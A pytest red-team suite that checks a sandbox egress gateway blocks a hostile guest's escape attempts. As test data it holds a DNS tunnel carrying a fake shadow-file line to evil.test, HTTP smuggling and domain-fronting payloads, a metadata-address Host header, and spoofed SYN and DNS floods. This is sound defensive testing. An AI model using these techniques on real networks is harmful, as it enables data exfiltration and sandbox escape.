"""Red team: a hostile guest tries to get around the egress gateway, and never does.

One sandbox serves the module (tests/egress_guest.py: policy POLICY; the world of
tests/egress_world.py with its stray-packet watcher on). Every attempt runs inside the
guest (tests/security/egress_redteam_probe.py, tests/integration/egress_probe.py) and
is checked twice where it can be: the guest got no answer from any server, and no
server, canary or the upstream resolver saw it. Throughout the module the canaries
("other", "private", "host", "loopback", "udp" and "stray", a packet reaching the
world outside the gateway) take no hit at all, and the upstream resolver is asked
only for A records of names POLICY allows. Where the gateway is the one that refuses,
its audit log must show the refusal, so a probe that broke on its own cannot pass.

Attempts, by layer:

- Below the gateway (nftables in the sandbox's namespace drops them): UDP to the
  upstream's echo port, to QUIC on another host, to the gateway off port 53, over a
  v4-mapped IPv6 socket; ICMP echo to the upstream, the gateway and the host's veth;
  raw IP protocols 253, 4 (IPIP), 41 (6in4), 47 (GRE) and 132 (SCTP); a raw TCP SYN
  with a forged source, to a disallowed and to a CIDR-allowed destination; TCP over
  IPv6 to link-local fe80::1, the upstream v4-mapped (::ffff:198.51.100.2 on gw0),
  2001:db8::1 and "other" under NAT64 (64:ff9b::198.51.100.3); a second address on
  the guest's NIC (ioctl), connecting from it.
- DNS: a query sent straight to the upstream resolver (the gateway answers it);
  tunnelling in long labels under a disallowed domain (A and TXT); TXT, MX, ANY and
  AAAA for an allowed name; DNS over TCP to the gateway and to the upstream resolver;
  class CHAOS; data in a label under an allowed wildcard (answered, never forwarded);
  names at the wildcard's boundary (``allowed.test.evil.test``, ``evilallowed.test``,
  ``a.b.allowed.test``).
- TCP by address: a public address no rule names, the CIDR-allowed address on other
  ports, synthetic addresses never handed out, the gateway's own listener and its
  ports 22, 80, 8080 and the node's loopback canary port, the host's veth address, a
  private address, the guest's own 127.0.0.1 and 0.0.0.0.
- TLS and HTTP on a connection routed by name: SNI of a disallowed name, no SNI, a
  ClientHello in 8-byte segments; Host of another name, of metadata, loopback, an IP,
  another port, a suffix-extended name; two Host headers, a folded one, none; a
  request sent after a silent pause; proxy settings (none, the gateway's listener, an
  allowed name as proxy for http and for https/CONNECT) with urllib.
- Requests past the first check, refused because the gateway parses every request
  (mitmproxy): an HTTP Host inside TLS other than the SNI (domain fronting), an
  absolute-form request line naming another host, CONNECT to another host with an
  allowed Host, a second pipelined request for another host.
- Denial of service (the gateway must survive, an allowed request still works): 2000
  DNS datagrams (queries, garbage, responses, pointer loops), 300 forged SYNs, 300
  silent and 300 half-closed connections held open.
"""

from __future__ import annotations

import base64
import ipaddress
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from ..egress_guest import (
    GUESTS,
    PROBE,
    Guest,
    asked_about,
    assert_no_answer,
    assert_no_server_answer,
    assert_world_untouched,
    booted_guest,
    denials_since,
    private_node_config,
)
from ..egress_world import HOST_SIDE, OTHER, PRIVATE, UPSTREAM, WORLD_NET

pytestmark = pytest.mark.vm

REDTEAM = "redteam_probe.py"
GATEWAY = "192.0.2.1"
#: An address nobody holds, in the world's own network: the forged source.
FORGED = str(ipaddress.ip_network(WORLD_NET)[45])
SYNTHETIC = ipaddress.ip_network("198.18.0.0/15")
#: OTHER under the NAT64 well-known prefix (64:ff9b::/96).
NAT64_OTHER = str(
    ipaddress.IPv6Address(
        int(ipaddress.IPv6Address("64:ff9b::")) + int(ipaddress.IPv4Address(OTHER))
    )
)
#: What a tunnel would carry out (say, a file of the sandbox), base32 in 3 labels of 63.
SECRET = b"root:$6$exfiltrated$0123456789abcdef:19000:0:99999:7:::\n" * 3
DATA = base64.b32encode(SECRET).decode().lower()
TUNNEL = ".".join(DATA[start : start + 63] for start in range(0, 189, 63))
TXT, MX, ANY, AAAA, CHAOS = 16, 15, 255, 28, 3
NXDOMAIN = 3


@pytest.fixture(scope="module", params=GUESTS)
def guest(
    tmp_path_factory: pytest.TempPathFactory, request: pytest.FixtureRequest
) -> Iterator[Guest]:
    scripts = {"probe.py": PROBE, REDTEAM: Path(__file__).with_name("egress_redteam_probe.py")}
    data_dir = tmp_path_factory.mktemp(f"redteam-node-{request.param}")
    with (
        private_node_config(data_dir) as config,
        booted_guest(config, guest=request.param, scripts=scripts, watch_strays=True) as booted,
    ):
        yield booted


def attack(guest: Guest, kind: str, **args: Any) -> dict[str, Any]:
    return guest.run_probe(REDTEAM, kind, **args)


@pytest.fixture
def mark(guest: Guest) -> tuple[int, float]:
    """Where this test starts: the number of hits so far, and the time."""
    return len(guest.world.hits), time.time()


# --- below the gateway -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "address", "port"),
    [
        ("udp", UPSTREAM, 9999),
        ("udp", OTHER, 443),
        ("udp", GATEWAY, 9999),
        ("udp6", f"::ffff:{UPSTREAM}", 9999),
    ],
    ids=["upstream-echo", "quic-to-other", "gateway-not-dns", "v4-mapped-ipv6"],
)
def test_negative_udp_other_than_dns_is_dropped(
    guest: Guest, mark: tuple[int, float], kind: str, address: str, port: int
) -> None:
    assert_no_answer(guest.probe(kind, address=address, port=port, data="exfil"))
    assert_world_untouched(guest, mark[0])
    assert not guest.world.hits_of("udp")


def test_negative_udp_to_the_gateway_is_refused_at_once_every_time(guest: Guest) -> None:
    """Each datagram to a port the gateway does not serve is answered with port
    unreachable, which a connected socket reports at once: a client (a closed
    sandbox's resolver) fails fast, never waiting out its timeouts. gVisor's stack
    ignored the admin-prohibited sent before, and past the kernel's per-peer ICMP
    limit (a burst of 6) none came at all: a resolver waited 2 s for every name."""
    answer = attack(guest, "udp_errors", address=GATEWAY, port=9999, count=20)
    assert answer == {"ok": True, "detail": ["ConnectionRefusedError"] * 20}


@pytest.mark.parametrize(
    "address", [UPSTREAM, GATEWAY, HOST_SIDE], ids=["upstream", "gateway", "host"]
)
def test_negative_icmp_echo_gets_no_reply(
    guest: Guest, mark: tuple[int, float], address: str
) -> None:
    assert_no_answer(guest.probe("icmp", address=address))
    assert_world_untouched(guest, mark[0])


@pytest.mark.parametrize(
    "protocol", [253, 4, 41, 47, 132], ids=["experimental-253", "ipip", "6in4", "gre", "sctp"]
)
def test_negative_raw_ip_protocols_go_nowhere(
    guest: Guest, mark: tuple[int, float], protocol: int
) -> None:
    assert_no_answer(guest.probe("raw_ip", address=OTHER, protocol=protocol))
    assert_world_untouched(guest, mark[0])


@pytest.mark.parametrize(
    ("address", "port", "server"),
    [(OTHER, 80, "other"), (UPSTREAM, 8080, "upstream:8080")],
    ids=["disallowed", "cidr-allowed"],
)
def test_negative_a_syn_with_a_forged_source_opens_nothing(
    guest: Guest, mark: tuple[int, float], address: str, port: int, server: str
) -> None:
    result = attack(guest, "spoofed_syn", address=address, port=port, source=FORGED)
    assert_no_answer(result)
    assert_world_untouched(guest, mark[0], server)


@pytest.mark.parametrize(
    "address",
    ["fe80::1%{nic}", f"::ffff:{UPSTREAM}", "2001:db8::1", NAT64_OTHER],
    ids=["link-local", "v4-mapped", "documentation", "nat64-of-other"],
)
def test_negative_tcp_over_ipv6_goes_nowhere(
    guest: Guest, mark: tuple[int, float], address: str
) -> None:
    if "{nic}" in address:
        address = address.format(nic=attack(guest, "nic")["detail"])
    assert_no_answer(guest.probe("tcp6", address=address, port=80))
    assert_world_untouched(guest, mark[0], "upstream", "other")


@pytest.mark.parametrize(
    ("address", "port", "server"),
    [(OTHER, 80, "other"), (HOST_SIDE, 8080, "host")],
    ids=["to-other", "to-the-host"],
)
def test_negative_a_second_address_on_the_guest_nic_reaches_nothing(
    guest: Guest, mark: tuple[int, float], address: str, port: int, server: str
) -> None:
    result = attack(guest, "from_alias", address=address, port=port, alias=FORGED)
    assert_no_answer(result)
    assert_world_untouched(guest, mark[0], server)


def test_raw_and_packet_sockets_are_the_guest_kernel_s_to_give(guest: Guest) -> None:
    """Where the guest types differ below the gateway. Root in a VM may open raw and
    packet sockets (its own kernel's): the attempts above forge packets with them, and
    the namespace's nftables drops what they send. gVisor's kernel refuses them (runsc
    runs without ``--net-raw``), so under gVisor those attempts fail at ``socket()``
    (PermissionError), and its UDP and ICMP fail at ``sendto`` (the namespace's output
    hook rejects them: the guest's sockets are the namespace's) instead of timing out
    unanswered. Nothing gets out either way: the tests above check the world for it."""
    opened = attack(guest, "raw_sockets")
    assert opened["ok"], opened
    expected = "opened" if guest.type == "qemu" else "PermissionError"
    assert all(how.startswith(expected) for how in opened["detail"].values()), opened


@pytest.mark.parametrize(("protocol", "port"), [("udp", 53), ("tcp", 15001)], ids=["dns", "proxy"])
def test_negative_the_guest_cannot_take_the_gateway_s_listeners(
    guest: Guest, mark: tuple[int, float], protocol: str, port: int
) -> None:
    """A gVisor guest's sockets live in the namespace the gateway listens in: the
    gateway's sockets do not share their address (no SO_REUSEADDR on UDP, no
    SO_REUSEPORT), so the guest cannot bind beside them. A VM does not hold the
    address at all."""
    assert_no_answer(attack(guest, "take_listener", protocol=protocol, port=port))
    assert_world_untouched(guest, mark[0])
    assert guest.probe("resolve", name="allowed.test")["ok"]
    assert_an_allowed_request_still_works(guest)


# --- DNS -----------------------------------------------------------------------------


def test_negative_dns_sent_straight_to_the_upstream_resolver_is_answered_by_the_gateway(
    guest: Guest, mark: tuple[int, float]
) -> None:
    allowed = attack(guest, "dns_records", name="direct.allowed.test", server=UPSTREAM)
    denied = attack(guest, "dns_records", name="evil.test", server=UPSTREAM)
    assert allowed["ok"] and denied["ok"], (allowed, denied)
    # The upstream would have said OTHER for both: a synthetic address and NXDOMAIN
    # are the gateway's answers.
    addresses = allowed["detail"]["addresses"]
    assert len(addresses) == 1 and ipaddress.ip_address(addresses[0]) in SYNTHETIC, allowed
    assert denied["detail"]["rcode"] == NXDOMAIN and denied["detail"]["records"] == 0, denied
    assert not asked_about(guest.world, "direct.allowed.test")
    assert not asked_about(guest.world, "evil.test")
    assert_world_untouched(guest, mark[0])


@pytest.mark.parametrize("qtype", [1, TXT], ids=["A", "TXT"])
def test_negative_a_dns_tunnel_under_a_disallowed_domain_gets_nxdomain_and_goes_nowhere(
    guest: Guest, mark: tuple[int, float], qtype: int
) -> None:
    name = f"{TUNNEL}.t{qtype}.evil.test"
    result = attack(guest, "dns_records", name=name, qtype=qtype)
    assert result["ok"], result
    assert result["detail"]["rcode"] == NXDOMAIN and result["detail"]["records"] == 0, result
    assert not asked_about(guest.world, TUNNEL[:63])
    assert any(e.host == name for e in denials_since(guest, mark[1]))
    assert_world_untouched(guest, mark[0])


@pytest.mark.parametrize("qtype", [TXT, MX, ANY, AAAA], ids=["TXT", "MX", "ANY", "AAAA"])
def test_negative_other_record_types_of_an_allowed_name_carry_nothing(
    guest: Guest, mark: tuple[int, float], qtype: int
) -> None:
    name = f"q{qtype}.allowed.test"
    result = attack(guest, "dns_records", name=name, qtype=qtype)
    assert result["ok"], result
    assert result["detail"]["rcode"] == 0 and result["detail"]["records"] == 0, result
    assert not asked_about(guest.world, name)
    assert_world_untouched(guest, mark[0])


@pytest.mark.parametrize("server", [GATEWAY, UPSTREAM], ids=["to-the-gateway", "to-upstream"])
def test_negative_dns_over_tcp_is_refused(
    guest: Guest, mark: tuple[int, float], server: str
) -> None:
    name = f"{TUNNEL}.tcp.evil.test"
    assert_no_answer(attack(guest, "dns_records", name=name, server=server, tcp=True))
    assert not asked_about(guest.world, "tcp.evil.test")
    assert_world_untouched(guest, mark[0])


def test_negative_a_chaos_class_query_is_refused(guest: Guest, mark: tuple[int, float]) -> None:
    result = attack(guest, "dns_records", name="version.bind", qtype=TXT, qclass=CHAOS)
    assert result["ok"], result
    assert result["detail"]["rcode"] != 0 and result["detail"]["records"] == 0, result
    assert not asked_about(guest.world, "version.bind")
    assert_world_untouched(guest, mark[0])


def test_negative_data_in_a_name_under_an_allowed_wildcard_is_answered_but_not_forwarded(
    guest: Guest, mark: tuple[int, float]
) -> None:
    name = f"{TUNNEL[:63]}.allowed.test"
    result = attack(guest, "dns_records", name=name)
    assert result["ok"], result
    addresses = result["detail"]["addresses"]
    assert len(addresses) == 1 and ipaddress.ip_address(addresses[0]) in SYNTHETIC, result
    assert not asked_about(guest.world, TUNNEL[:63])
    assert_world_untouched(guest, mark[0])


@pytest.mark.parametrize("name", ["allowed.test.evil.test", "evilallowed.test", "a.b.allowed.test"])
def test_negative_names_at_the_wildcard_boundary_neither_resolve_nor_connect(
    guest: Guest, mark: tuple[int, float], name: str
) -> None:
    assert_no_answer(guest.probe("resolve", name=name))
    assert_no_answer(guest.probe("http", host=name))
    result = attack(guest, "dns_records", name=name)
    assert result["ok"] and result["detail"]["rcode"] == NXDOMAIN, result
    assert not asked_about(guest.world, name)
    assert any(e.host == name and e.protocol == "dns" for e in denials_since(guest, mark[1]))
    assert_world_untouched(guest, mark[0])


# --- TCP by address -----------------------------------------------------------------------

LOOPBACK_PORT = -1  # stands for the world's loopback canary port, known at run time

ADDRESSES = [
    pytest.param(OTHER, 80, True, id="public-ip-no-rule-names"),
    pytest.param(UPSTREAM, 80, True, id="cidr-allowed-ip-on-port-80"),
    pytest.param(UPSTREAM, 443, True, id="cidr-allowed-ip-on-port-443"),
    pytest.param(UPSTREAM, 22, True, id="cidr-allowed-ip-on-port-22"),
    pytest.param("198.18.200.200", 80, True, id="synthetic-never-handed-out"),
    pytest.param("198.18.0.1", 80, True, id="synthetic-gateway-lookalike"),
    pytest.param(GATEWAY, 15001, True, id="gateway-own-listener"),
    pytest.param(GATEWAY, 22, True, id="gateway-ssh"),
    pytest.param(GATEWAY, 80, True, id="gateway-http"),
    pytest.param(GATEWAY, 8080, True, id="gateway-8080"),
    pytest.param(GATEWAY, LOOPBACK_PORT, True, id="node-loopback-canary-via-gateway"),
    pytest.param(HOST_SIDE, 8080, True, id="host-veth-address"),
    pytest.param(PRIVATE, 80, True, id="private-address"),
    pytest.param("127.0.0.1", LOOPBACK_PORT, False, id="guest-loopback"),
    pytest.param("0.0.0.0", LOOPBACK_PORT, False, id="guest-unspecified"),
]


@pytest.mark.parametrize(("address", "port", "via_gateway"), ADDRESSES)
def test_negative_tcp_to_an_address_no_rule_allows_is_refused(
    guest: Guest, mark: tuple[int, float], address: str, port: int, via_gateway: bool
) -> None:
    port = guest.world.loopback_port if port == LOOPBACK_PORT else port
    result = guest.probe("tcp", address=address, port=port, data="GET / HTTP/1.0\r\n\r\n")
    assert_no_answer(result)
    assert_world_untouched(guest, mark[0], "upstream", "upstream:8080", "tls")
    if via_gateway:  # the gateway refused it, and said so
        assert any(e.port == port for e in denials_since(guest, mark[1]))
    else:  # it stayed inside the guest, where nothing listens
        assert "ConnectionRefusedError" in result["detail"], result


def test_negative_a_synthetic_address_never_handed_out_is_unknown_to_the_gateway(
    guest: Guest, mark: tuple[int, float]
) -> None:
    assert_no_answer(guest.probe("tcp", address="198.18.200.200", port=443))
    reasons = [e.reason for e in denials_since(guest, mark[1])]
    assert "unknown synthetic address" in reasons
    assert_world_untouched(guest, mark[0], "tls")


# --- TLS and HTTP on a connection routed by name ----------------------------------------


def test_negative_domain_fronting_with_an_allowed_sni_and_another_host_inside_tls(
    guest: Guest, mark: tuple[int, float]
) -> None:
    result = guest.probe(
        "tls", host="tls.allowed.test", sni="tls.allowed.test", header_host="other.test"
    )
    assert not [hit for hit in guest.world.hits[mark[0] :] if hit.host == "other.test"]
    assert_no_server_answer(result)


@pytest.mark.parametrize(
    "sni", ["other.test", "allowed.test.evil.test", ""], ids=["disallowed", "suffixed", "none"]
)
def test_negative_tls_whose_sni_is_not_the_routed_name_is_refused(
    guest: Guest, mark: tuple[int, float], sni: str
) -> None:
    result = guest.probe("tls", host="tls.allowed.test", sni=sni, header_host="tls.allowed.test")
    assert_no_server_answer(result)
    assert_world_untouched(guest, mark[0], "tls")
    assert denials_since(guest, mark[1])


def test_negative_a_client_hello_in_small_segments_is_still_read_whole(
    guest: Guest, mark: tuple[int, float]
) -> None:
    result = attack(guest, "tls_fragmented", host="tls.allowed.test", sni="other.test", chunk=8)
    assert_no_server_answer(result)
    assert_world_untouched(guest, mark[0], "tls")
    assert any(e.host == "other.test" for e in denials_since(guest, mark[1]))


@pytest.mark.parametrize(
    "header_host",
    [
        "other.test",
        "169.254.169.254",
        "127.0.0.1",
        OTHER,
        "allowed.test:8080",
        "allowed.test.evil.test",
    ],
    ids=["other-name", "metadata", "loopback", "other-ip", "other-port", "suffixed"],
)
def test_negative_http_whose_host_is_not_the_routed_name_is_refused(
    guest: Guest, mark: tuple[int, float], header_host: str
) -> None:
    result = guest.probe("http", host="allowed.test", header_host=header_host)
    assert_no_server_answer(result)
    assert_world_untouched(guest, mark[0])
    assert denials_since(guest, mark[1])


MALFORMED = [
    pytest.param(
        "GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: other.test\r\n\r\n", 0.0, id="two-hosts"
    ),
    pytest.param(
        "GET / HTTP/1.1\r\nHost: allowed.test\r\n other.test\r\n\r\n", 0.0, id="folded-host"
    ),
    pytest.param("GET / HTTP/1.0\r\nUser-Agent: x\r\n\r\n", 0.0, id="no-host"),
    pytest.param(
        "GET / HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n",
        1.5,
        id="other-host-after-a-silent-pause",
    ),
]


@pytest.mark.parametrize(("data", "delay_s"), MALFORMED)
def test_negative_an_http_head_that_does_not_name_the_routed_host_once_is_refused(
    guest: Guest, mark: tuple[int, float], data: str, delay_s: float
) -> None:
    result = attack(guest, "raw_http", host="allowed.test", data=data, delay_s=delay_s)
    assert_no_server_answer(result)
    assert_world_untouched(guest, mark[0])
    assert denials_since(guest, mark[1])


SMUGGLED = [
    pytest.param(
        "GET http://other.test/ HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n",
        id="absolute-form-request-line",
    ),
    pytest.param(
        "CONNECT other.test:443 HTTP/1.1\r\nHost: allowed.test\r\n\r\n", id="connect-form"
    ),
]


@pytest.mark.parametrize("data", SMUGGLED)
def test_negative_another_host_named_past_the_first_host_header_is_refused(
    guest: Guest, mark: tuple[int, float], data: str
) -> None:
    result = attack(guest, "raw_http", host="allowed.test", data=data)
    assert not [hit for hit in guest.world.hits[mark[0] :] if b"other.test" in hit.data]
    assert_no_server_answer(result)


def test_negative_a_second_pipelined_request_for_another_host_is_refused(
    guest: Guest, mark: tuple[int, float]
) -> None:
    data = (
        "GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n"
        "GET / HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n"
    )
    result = attack(guest, "raw_http", host="allowed.test", data=data)
    assert not [hit for hit in guest.world.hits[mark[0] :] if b"other.test" in hit.data]
    # A relay that forwarded the bytes as they came would put both requests in the
    # server's first read (it records that read), naming other.test.
    assert "upstream host=allowed.test" in str(result["detail"]), result


@pytest.mark.parametrize(
    ("url", "proxy"),
    [
        ("http://other.test/", None),
        ("http://other.test/", f"http://{GATEWAY}:15001"),
        ("http://other.test/", "http://allowed.test:80"),
        ("https://other.test/", "http://allowed.test:80"),
    ],
    ids=["no-proxy", "gateway-as-proxy", "allowed-name-as-proxy", "connect-via-allowed-name"],
)
def test_negative_proxy_settings_do_not_open_a_way_out(
    guest: Guest, mark: tuple[int, float], url: str, proxy: str | None
) -> None:
    result = attack(guest, "fetch", url=url, proxy=proxy)
    assert_no_server_answer(result)
    assert not [hit for hit in guest.world.hits[mark[0] :] if b"other.test" in hit.data]
    assert_world_untouched(guest, mark[0])


# --- denial of service: the gateway survives ---------------------------------------------


def assert_an_allowed_request_still_works(guest: Guest) -> None:
    result = guest.probe("http", host="allowed.test")
    assert result["ok"], result
    assert "upstream host=allowed.test" in result["detail"]


def test_the_gateway_survives_a_flood_of_2000_dns_datagrams(
    guest: Guest, mark: tuple[int, float]
) -> None:
    result = attack(guest, "dns_flood", count=2000, suffix="flood.evil.test")
    assert result["ok"], result
    assert result["detail"]["replies"] > 0, "the flood never reached the gateway"
    assert not asked_about(guest.world, "flood.evil.test")
    assert_world_untouched(guest, mark[0])
    assert_an_allowed_request_still_works(guest)


def test_the_gateway_survives_300_syns_with_a_forged_source(
    guest: Guest, mark: tuple[int, float]
) -> None:
    result = attack(guest, "spoofed_syn", address=OTHER, port=80, source=FORGED, count=300)
    assert_no_answer(result)
    assert_world_untouched(guest, mark[0], "other")
    assert_an_allowed_request_still_works(guest)


@pytest.mark.parametrize("half_close", [False, True], ids=["silent", "half-closed"])
def test_the_gateway_serves_an_allowed_request_while_300_connections_hang(
    guest: Guest, half_close: bool
) -> None:
    result = attack(guest, "hold", count=300, host="allowed.test", half_close=half_close)
    assert result["ok"], result
    assert result["detail"].startswith("held 300; ")
    assert "upstream host=allowed.test" in result["detail"]
    assert_an_allowed_request_still_works(guest)
